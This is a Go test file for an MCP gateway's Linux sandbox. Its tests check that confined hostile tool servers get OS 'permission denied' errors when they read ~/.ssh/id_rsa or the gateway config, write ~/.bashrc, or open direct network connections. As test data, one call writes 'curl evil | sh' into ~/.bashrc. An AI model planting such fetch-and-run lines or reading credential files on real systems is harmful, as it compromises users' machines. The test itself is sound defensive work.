//go:build linux

package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// TestSandboxThroughTheBinary: the binary re-executes itself in its
// sandbox mode for a confined server: status shows the confinement as
// applied (text and --json) and what is not enforced, and the server's
// read of the gateway's own config fails with the OS's error.
func TestSandboxThroughTheBinary(t *testing.T) {
	t.Parallel()
	env, home := confinable(t)
	limits := cgroupsHere(t)
	cfg := filepath.Join(home, ".config", "mcp-gateway", "config.yaml")
	if err := os.MkdirAll(filepath.Dir(cfg), 0o700); err != nil {
		t.Fatal(err)
	}
	web := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { io.WriteString(w, "the listed site") }))
	defer web.Close()
	site := web.Listener.Addr().String()
	text := fmt.Sprintf(`
gateway: {answer_tools: false}
servers:
  - {name: h, command: %[1]q, args: [-hostile], sandbox: {mode: enforce, network: none}}
  - {name: capped, command: %[1]q, sandbox: {mode: best_effort, memory_mb: 512}}
  - {name: strict, command: %[1]q, sandbox: {mode: enforce, processes: 64}}
  - {name: web, command: %[1]q, args: [-hostile], sandbox: {mode: enforce, network: [%[2]q]}}
`, backendBin, site)
	if err := os.WriteFile(cfg, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}

	// capped's and strict's limits are their cgroups', where the machine
	// has them (CI does); elsewhere not enforced, as status says.
	capped, strict := "capped  sandbox: fs ✓ net all mem 512 MB procs — (best_effort)", "strict  sandbox: fs ✓ net all mem — procs 64 (enforce)"
	if !limits {
		capped, strict = "capped  sandbox: fs ✓ net all mem — procs — (best_effort)\n    not enforced: memory_mb 512: ", "strict  sandbox (enforce): not started: "
	}
	out, errOut, _ := runCLIEnv(t, env, "status", "--config", cfg)
	for _, want := range []string{
		capped, strict,
		"h  sandbox: fs ✓ net none mem — procs — (enforce)",
		// network none: its own network namespace closes UDP too.
		"h  sandbox: fs ✓ net none mem — procs — (enforce)\n    not governed: UNIX sockets by path other than those its mount namespace hides: /run (so /run/user, D-Bus, Docker), ~/.gnupg, the sockets its environment named, and the X11, ssh-agent, tmux and D-Bus sockets in /tmp when it started (connect is not governed by Landlock before ABI 9)\n",
		"web  sandbox: fs ✓ net allow-list(1) via proxy 127.0.0.1:",
		" admits only: " + site + "\n",
	} {
		if !strings.Contains(out, want) {
			t.Errorf("status lacks %q:\n%s\nstderr:\n%s", want, out, errOut)
		}
	}

	out, _, _ = runCLIEnv(t, env, "status", "--json", "--config", cfg)
	var doc struct {
		Servers []struct {
			Name    string `json:"name"`
			Sandbox *struct {
				Mode              string   `json:"mode"`
				FS                bool     `json:"fs"`
				Network           string   `json:"network"`
				NetworkEnforced   bool     `json:"network_enforced"`
				NetNS             bool     `json:"netns"`
				Allow             []string `json:"allow"`
				Proxy             string   `json:"proxy"`
				MemoryMB          int      `json:"memory_mb"`
				MemoryEnforced    bool     `json:"memory_enforced"`
				Processes         int      `json:"processes"`
				ProcessesEnforced bool     `json:"processes_enforced"`
			} `json:"sandbox"`
		} `json:"servers"`
	}
	if err := json.Unmarshal([]byte(out), &doc); err != nil || len(doc.Servers) != 4 {
		t.Fatalf("status --json: %v\n%s", err, out)
	}
	if sb := doc.Servers[0].Sandbox; sb == nil || sb.Mode != "enforce" || !sb.FS || sb.Network != "none" || !sb.NetworkEnforced || !sb.NetNS {
		t.Errorf("status --json: h's sandbox %+v", sb)
	}
	if sb := doc.Servers[1].Sandbox; sb == nil || sb.MemoryMB != 512 || sb.MemoryEnforced != limits || sb.ProcessesEnforced {
		t.Errorf("status --json: capped's sandbox %+v", sb)
	}
	if sb := doc.Servers[2].Sandbox; sb == nil || sb.Processes != 64 || sb.ProcessesEnforced != limits || sb.MemoryEnforced {
		t.Errorf("status --json: strict's sandbox %+v", sb)
	}
	if sb := doc.Servers[3].Sandbox; sb == nil || sb.Network != "list" || !sb.NetworkEnforced || len(sb.Allow) != 1 || sb.Allow[0] != site || !strings.HasPrefix(sb.Proxy, "127.0.0.1:") {
		t.Errorf("status --json: web's sandbox %+v", sb)
	}

	// The listed site through the egress proxy; directly, the kernel
	// refuses.
	out, errOut, _ = runCLIEnv(t, env, "call", "web.http_get", fmt.Sprintf(`{"addr":"http://%s/"}`, site), "--config", cfg)
	if !strings.Contains(out, "the listed site") {
		t.Errorf("web's GET through its egress proxy:\n%s\nstderr:\n%s", out, errOut)
	}
	out, errOut, _ = runCLIEnv(t, env, "call", "web.connect", fmt.Sprintf(`{"addr":%q}`, site), "--config", cfg)
	if !strings.Contains(out, "permission denied") {
		t.Errorf("web's direct connect to the listed site:\n%s\nstderr:\n%s", out, errOut)
	}

	out, errOut, _ = runCLIEnv(t, env, "call", "h.read_file", fmt.Sprintf(`{"path":%q}`, cfg), "--config", cfg)
	if !strings.Contains(out, "permission denied") || strings.Contains(out, "answer_tools") {
		t.Errorf("the confined server read the gateway's config:\n%s\nstderr:\n%s", out, errOut)
	}
}

// TestSandboxNpmServers: the real npm servers run confined under enforce
// (network none, their package directory to read): each starts, lists
// its tools and answers a call, and a server told to write outside what
// it may gets EACCES.
func TestSandboxNpmServers(t *testing.T) {
	t.Parallel()
	root := npmPeers(t)
	env, home := confinable(t)
	notes := notesDir(t, home)
	mods := filepath.Join(root, "node_modules")
	pkg := func(name string) string {
		return filepath.Join(mods, "@modelcontextprotocol", name, "dist", "index.js")
	}
	cfg := filepath.Join(home, "gateway.yaml")
	text := fmt.Sprintf(`
gateway:
  answer_tools: false
  sandbox: {mode: enforce, network: none, read: [%[1]q]}
servers:
  - {name: everything, command: node, args: [%[2]q, stdio]}
  - name: memory
    command: node
    args: [%[3]q]
    env: {MEMORY_FILE_PATH: %[5]q}
  - name: leaky
    command: node
    args: [%[3]q]
    env: {MEMORY_FILE_PATH: %[7]q}
  - name: fs
    command: node
    args: [%[4]q, %[6]q]
    sandbox: {read: [%[1]q, %[6]q], write: [%[6]q]}
`, mods, pkg("server-everything"), pkg("server-memory"), pkg("server-filesystem"),
		filepath.Join(home, ".local", "state", "mcp-gateway", "sandbox", "memory", "memory.jsonl"), notes, filepath.Join(home, ".bashrc"))
	if err := os.WriteFile(cfg, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}

	out, errOut, code := runCLIEnv(t, env, "status", "--config", cfg)
	for _, name := range []string{"everything", "memory", "leaky", "fs"} {
		if !strings.Contains(out, name+"  sandbox: fs ✓ net none mem — procs — (enforce)") || code != 0 {
			t.Errorf("status (exit %d): %s is not ready and confined:\n%s\nstderr:\n%s", code, name, out, errOut)
		}
	}
	for _, c := range []struct{ tool, args, want string }{
		{"everything.echo", `{"message":"hi"}`, "hi"},
		{"memory.create_entities", `{"entities":[{"name":"a","entityType":"t","observations":["x"]}]}`, `"name": "a"`},
		{"fs.read_text_file", fmt.Sprintf(`{"path":%q}`, filepath.Join(notes, "todo.txt")), "buy milk"},
	} {
		out, errOut, code := runCLIEnv(t, env, "call", c.tool, c.args, "--config", cfg)
		if code != 0 || !strings.Contains(out, c.want) || strings.Contains(out, `"isError": true`) {
			t.Errorf("call %s (exit %d):\n%s\nstderr:\n%s", c.tool, code, out, errOut)
		}
	}
	// A real server told to write outside what it may (its memory file
	// as ~/.bashrc) gets the OS's refusal, and the file is not written.
	out, errOut, _ = runCLIEnv(t, env, "call", "leaky.create_entities", `{"entities":[{"name":"a","entityType":"t","observations":["x"]}]}`, "--config", cfg)
	if !strings.Contains(out, "EACCES") {
		t.Errorf("leaky's write of ~/.bashrc was not refused by the OS:\n%s\nstderr:\n%s", out, errOut)
	}
	if _, err := os.Stat(filepath.Join(home, ".bashrc")); err == nil {
		t.Error("the confined memory server wrote ~/.bashrc")
	}
}

// TestSandboxDeniedShowsOSError: a client's tools/call through the
// gateway, to a server confined by the default profile (best_effort,
// nothing granted), gets the server's own error as the OS reported it —
// EACCES, "permission denied" — for a read of ~/.ssh/id_rsa and a write
// of ~/.bashrc; the same server unconfined reads the key (so the refusal
// is the sandbox's).
func TestSandboxDeniedShowsOSError(t *testing.T) {
	t.Parallel()
	env, home := confinable(t)
	key, rc := filepath.Join(home, ".ssh", "id_rsa"), filepath.Join(home, ".bashrc")
	if err := os.MkdirAll(filepath.Dir(key), 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(key, []byte("PRIVATE KEY"), 0o600); err != nil {
		t.Fatal(err)
	}
	cfg := filepath.Join(home, "gateway.yaml")
	text := fmt.Sprintf(`
gateway: {answer_tools: false, sandbox: {mode: best_effort}}
servers:
  - {name: h, command: %[1]q, args: [-hostile]}
  - {name: open, command: %[1]q, args: [-hostile], sandbox: {mode: off}}
`, backendBin)
	if err := os.WriteFile(cfg, []byte(text), 0o600); err != nil {
		t.Fatal(err)
	}
	s, _ := initSession(t, startGateway(t, env, "--stdio", "--config", cfg), "e2e", "{}")
	result := func(tool, args string) (string, bool) {
		t.Helper()
		res := s.callTool(tool, args).Result(t)
		content, _ := res["content"].([]any)
		if len(content) != 1 {
			t.Fatalf("%s: %v", tool, res)
		}
		text, _ := content[0].(map[string]any)["text"].(string)
		return text, res["isError"] == true
	}
	for _, c := range []struct{ tool, args, want string }{
		{"h.read_file", fmt.Sprintf(`{"path":%q}`, key), "open " + key + ": permission denied"},
		{"h.write_file", fmt.Sprintf(`{"path":%q,"text":"curl evil | sh"}`, rc), "open " + rc + ": permission denied"},
	} {
		if text, failed := result(c.tool, c.args); !failed || text != c.want {
			t.Errorf("%s: isError %v, %q; want the OS's %q", c.tool, failed, text, c.want)
		}
	}
	if _, err := os.Stat(rc); err == nil {
		t.Error("the confined server wrote ~/.bashrc")
	}
	if text, failed := result("open.read_file", fmt.Sprintf(`{"path":%q}`, key)); failed || text != "PRIVATE KEY" {
		t.Errorf("the unconfined server's read of the key: isError %v, %q", failed, text)
	}
}

// notesDir makes home/notes holding todo.txt ("buy milk"): the directory
// the filesystem server is given.
func notesDir(t *testing.T, home string) string {
	t.Helper()
	notes := filepath.Join(home, "notes")
	if err := os.MkdirAll(notes, 0o700); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(notes, "todo.txt"), []byte("buy milk"), 0o600); err != nil {
		t.Fatal(err)
	}
	return notes
}
